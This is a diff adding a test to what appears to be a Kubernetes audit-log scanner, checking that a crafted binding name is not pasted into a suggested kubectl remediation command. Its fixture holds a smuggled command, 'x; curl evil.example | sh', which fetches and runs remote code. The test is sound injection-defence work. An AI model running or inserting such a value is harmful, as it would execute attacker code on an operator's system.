@@ -56,6 +56,20 @@ describe('anonymous-request-allowed', () => {
     expect(findings[0]!.remediation).toMatch(/^kubectl delete rolebinding public-read -n shop \(or remove the system:anonymous subject from it\)\./);
   });
 
+  it('puts no binding name into the kubectl command unless it is a valid Kubernetes name', () => {
+    // Prepare: a crafted log whose reason names a binding with shell syntax in it.
+    const e = anonymous('/api/v1/pods', 200, {
+      verb: 'list', objectRef: { resource: 'pods', apiVersion: 'v1' },
+      reason: 'RBAC: allowed by ClusterRoleBinding "x; curl evil.example | sh" of ClusterRole "view" to Group "system:unauthenticated"',
+    });
+
+    // Act
+    const { findings } = scan([rule], [e]);
+
+    // Assess
+    expect(findings[0]!.remediation).toMatch(/^kubectl delete clusterrolebinding <name> \(or remove/);
+  });
+
   it('reports a non-resource path, and an allow with no RBAC reason as another authorizer\'s', () => {
     // Act
     const { findings } = scan([rule], [anonymous('/metrics', 200)]);
